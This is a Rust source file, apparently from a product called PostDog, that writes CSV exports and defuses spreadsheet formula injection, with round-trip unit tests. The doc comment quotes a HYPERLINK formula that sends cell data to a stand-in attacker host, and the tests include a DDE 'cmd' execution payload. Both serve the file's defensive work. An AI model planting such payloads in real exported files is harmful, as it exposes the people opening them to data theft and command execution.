//! CSV PostDog writes (contact and campaign exports, import error reports): one record
//! per line, with every cell a spreadsheet would run as a formula made inert.
//!
//! Names, message texts and error details come from customers and providers, so a cell
//! such as `=HYPERLINK("http://evil.example/?"&A1)` must not run when a tenant opens the
//! file in a spreadsheet (CSV injection, OWASP). Such a cell gets a leading `'`, which
//! spreadsheets show as text. Numbers keep their sign (an E.164 `+14155550123`, `-5`).
//! The importer takes the `'` off again ([`from_inert`]), so exports import back as
//! they were.

/// One CSV record, line ending included (empty if it cannot be written).
pub(crate) fn csv_line<S: AsRef<str>>(cells: &[S]) -> Vec<u8> {
    let mut writer = csv::Writer::from_writer(Vec::new());
    if writer
        .write_record(cells.iter().map(|cell| inert_bytes(cell.as_ref())))
        .is_err()
    {
        return Vec::new();
    }
    writer.into_inner().unwrap_or_default()
}

/// `cell`, with a leading `'` if a spreadsheet would take it for a formula.
pub(crate) fn inert(cell: &str) -> std::borrow::Cow<'_, str> {
    let formula = match cell.chars().next() {
        Some('=' | '@' | '\t' | '\r') => true,
        Some('+' | '-') => !cell[1..]
            .chars()
            .all(|c| c.is_ascii_digit() || matches!(c, ' ' | '.' | ',' | '(' | ')' | '-')),
        _ => false,
    };
    if formula {
        format!("'{cell}").into()
    } else {
        cell.into()
    }
}

/// [`inert`] as bytes, for `csv::Writer::write_record`.
pub(crate) fn inert_bytes(cell: &str) -> std::borrow::Cow<'_, [u8]> {
    match inert(cell) {
        std::borrow::Cow::Borrowed(text) => std::borrow::Cow::Borrowed(text.as_bytes()),
        std::borrow::Cow::Owned(text) => std::borrow::Cow::Owned(text.into_bytes()),
    }
}

/// An imported cell without the `'` that [`inert`] puts before a formula character.
pub(crate) fn from_inert(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.starts_with(['=', '@', '+', '-', '\t', '\r']) => rest,
        _ => cell,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn line(cells: &[&str]) -> String {
        String::from_utf8(csv_line(cells)).expect("UTF-8")
    }

    #[test]
    fn formulas_are_made_inert_and_plain_values_kept() {
        assert_eq!(
            line(&[
                "=HYPERLINK(\"http://x\")",
                "@SUM(A1)",
                "+cmd|' /C calc'!A0",
                "-2+3"
            ]),
            "\"'=HYPERLINK(\"\"http://x\"\")\",'@SUM(A1),'+cmd|' /C calc'!A0,'-2+3\n"
        );
        assert_eq!(line(&["\tx", "\rx"]), "'\tx,\"'\rx\"\n");
        assert_eq!(
            line(&[
                "+14155550123",
                "-5",
                "+1 (415) 555-0123",
                "Ada",
                "",
                "a=b",
                "-"
            ]),
            "+14155550123,-5,+1 (415) 555-0123,Ada,,a=b,-\n"
        );
    }

    #[test]
    fn inert_cells_read_back_as_written() {
        for cell in [
            "=1+1",
            "@x",
            "+cmd",
            "-2+3",
            "\tx",
            "+14155550123",
            "Ada",
            "'quoted",
            "'",
            "",
        ] {
            assert_eq!(from_inert(&inert(cell)), cell, "{cell:?}");
        }
        assert_eq!(from_inert("'Tis"), "'Tis");
    }
}
